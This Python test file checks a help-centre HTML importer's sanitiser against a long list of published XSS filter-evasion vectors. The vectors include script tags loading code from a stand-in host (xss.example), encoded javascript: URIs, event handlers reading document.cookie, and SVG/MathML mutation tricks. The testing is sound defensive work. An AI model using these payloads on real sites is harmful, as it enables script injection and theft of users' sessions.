"""The published filter-evasion techniques (OWASP's cheat sheet and its like), through HTML of other help centres.

What is asked: whatever stands in the rendered page is on the list of what may, and no address in it runs anything.
"""

from __future__ import annotations

from html.parser import HTMLParser

import pytest

from kb import rendering
from kb.porting import html
from kb.porting.html import TooDeep

_TAGS = {"p", "br", "hr", "strong", "em", "s", "code", "pre", "blockquote", "ul", "ol", "li", "a", "img", "table",
         "thead", "tbody", "tr", "th", "td", "h2", "h3", "h4", "h5", "h6"}  # fmt: skip
_ATTRIBUTES = {"href", "title", "alt", "src", "id", "start", "rel"}

VECTORS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<SCRIPT>alert('XSS');//\\<</SCRIPT>",
    "<script/xss src='https://xss.example/xss.js'></script>",
    "<script\n>alert(1)</script\n>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<IFRAME SRC=# onmouseover=alert(document.cookie)></IFRAME>",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>",
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61alert(1)>",
    '<IMG SRC="jav\tascript:alert(1);">',
    '<IMG SRC="jav&#x0A;ascript:alert(1);">',
    '<IMG SRC=" &#14;  javascript:alert(1);">',
    '<IMG DYNSRC="javascript:alert(1)"><IMG LOWSRC="javascript:alert(1)">',
    "<img src=data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+ alt=x>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='java\0script:alert(1)'>x</a>",
    "<a href='java&#x09;script:alert(1)'>x</a>",
    "<a href='jav\u00adascript:alert(1)'>x</a>",
    "<a href='\u200bjavascript:alert(1)'>x</a>",
    "<a href='&#1;javascript:alert(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='javascript&colon;alert(1)'>x</a>",
    "<a href='x' onclick='alert(1)' style='position:fixed;inset:0'>x</a>",
    '<a href="https://ok.example/)[x](javascript:alert(1))">x</a>',
    '<a href="https://ok.example/ &quot;onmouseover=alert(1)">x</a>',
    "<a href='https://ok.example/' title='\") onmouseover=alert(1) (\"'>x</a>",
    "<p>[x](javascript:alert(1)) ![x](javascript:alert(1)) <javascript:alert(1)></p>",
    "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>",
    "<p>&amp;lt;script&amp;gt;alert(1)</p>",
    "<pre>```\n</code></pre><script>alert(1)</script></pre>",
    "<code>`</code><img src=x onerror=alert(1)>`",
    "<svg onload=alert(1)></svg><svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<style>@import'https://xss.example/xss.css';</style>",
    "<div style='background-image:url(javascript:alert(1))'>x</div>",
    "<div style='width: expression(alert(1));'>x</div>",
    "<div style='position:fixed;top:0;left:0;width:100%;height:100%'><a href='https://evil.example'>x</a></div>",
    "<XSS STYLE='behavior: url(xss.htc);'>",
    "<LINK REL='stylesheet' HREF='javascript:alert(1);'>",
    "<META HTTP-EQUIV='refresh' CONTENT='0;url=javascript:alert(1);'>",
    "<BASE HREF='javascript:alert(1);//'>",
    "<BODY ONLOAD=alert(1)>",
    "<OBJECT TYPE='text/x-scriptlet' DATA='https://xss.example/scriptlet.html'></OBJECT>",
    "<EMBED SRC='data:image/svg+xml;base64,PHN2Zz4='></EMBED>",
    "<form action='javascript:alert(1)'><input type=submit formaction='javascript:alert(2)'></form>",
    "<input autofocus onfocus=alert(1)><details open ontoggle=alert(1)><summary>x</summary></details>",
    "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)></audio>",
    "<table background='javascript:alert(1)'><tr><td background='javascript:alert(1)'>x</td></tr></table>",
    "<marquee onstart=alert(1)>x</marquee><isindex action=javascript:alert(1)>",
    "<!--[if gte IE 4]><SCRIPT>alert(1);</SCRIPT><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><?import namespace='t' implementation='#default#time2'>",
    "+ADw-SCRIPT+AD4-alert(1);+ADw-/SCRIPT+AD4-",
    "<h2 id='x\" onclick=alert(1)'>x</h2><a href='#x\" onclick=alert(1)'>y</a>",
    "<template><script>alert(1)</script></template><textarea><script>alert(1)</script></textarea>",
    "<a href='//evil.example/x'>x</a><a href='\\\\evil.example'>x</a>",
    "<a href='http://[::1'>x</a><img src='http://[::1'>",
]


class _Seen(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes += [(name, value or "") for name, value in attrs]


def rendered(vector: str) -> tuple[str, _Seen]:
    markdown = html.convert(vector, link=lambda href: (href, None), image=lambda src: (src, None)).markdown
    page = rendering.render(markdown).html
    seen = _Seen()
    seen.feed(page)
    return page, seen


@pytest.mark.parametrize("vector", VECTORS, ids=range(len(VECTORS)))
@pytest.mark.parametrize("around", ["{}", "<p>Before {} after</p>", "<table><tr><td>{}</td></tr></table>"])
def test_nothing_that_runs_or_draws_gets_through(vector, around):
    _, seen = rendered(around.format(vector))
    assert set(seen.tags) <= _TAGS
    assert {name for name, _ in seen.attributes} <= _ATTRIBUTES
    for name, value in seen.attributes:
        if name in ("href", "src"):
            assert value.split(":")[0].lower() in ("http", "https", "mailto", "tel") or ":" not in value.split("/")[0]


def test_the_same_in_markdown_itself():
    for vector in VECTORS:
        seen = _Seen()
        seen.feed(rendering.render(vector).html)
        assert set(seen.tags) <= _TAGS


def test_a_text_about_script_stays_readable():
    page, _ = rendered("<p>Write <code>&lt;script&gt;</code> or &lt;b&gt; so: 1 &lt; 2 &amp;amp; *not* bold_ly.</p>")
    assert page == "<p>Write <code>&lt;script&gt;</code> or &lt;b&gt; so: 1 &lt; 2 &amp;amp; *not* bold_ly.</p>"


def test_what_readers_could_not_see_is_left_out_and_told():
    found = html.convert(
        "<p>a<span style='display:none'>hidden</span></p>", link=lambda h: (h, None), image=lambda s: (s, None)
    )
    assert found.markdown == "a"
    assert [note.what for note in found.notes] == ["Text that readers could not see was left out."]


def test_tags_within_tags_without_end_are_refused():
    with pytest.raises(TooDeep):
        rendered("<div>" * 50_000)


def test_what_editors_use_survives():
    page, _ = rendered(
        "<h1>T</h1><ol start=3><li>a<ul><li>b</li></ul></li></ol><div class='callout'>Mind</div>"
        "<table><thead><tr><th>x</th></tr></thead><tbody><tr><td>y | z</td></tr></tbody></table>"
        "<pre><code class='language-py'>a = '`'\n  b</code></pre>"
    )
    for expected in ("<h2 id=", '<ol start="3">', "<ul>\n<li>b</li>", "<blockquote>\n<p>Mind</p>",
                     "<td>y | z</td>", "<pre><code>a = '`'\n  b\n</code></pre>"):  # fmt: skip
        assert expected in page
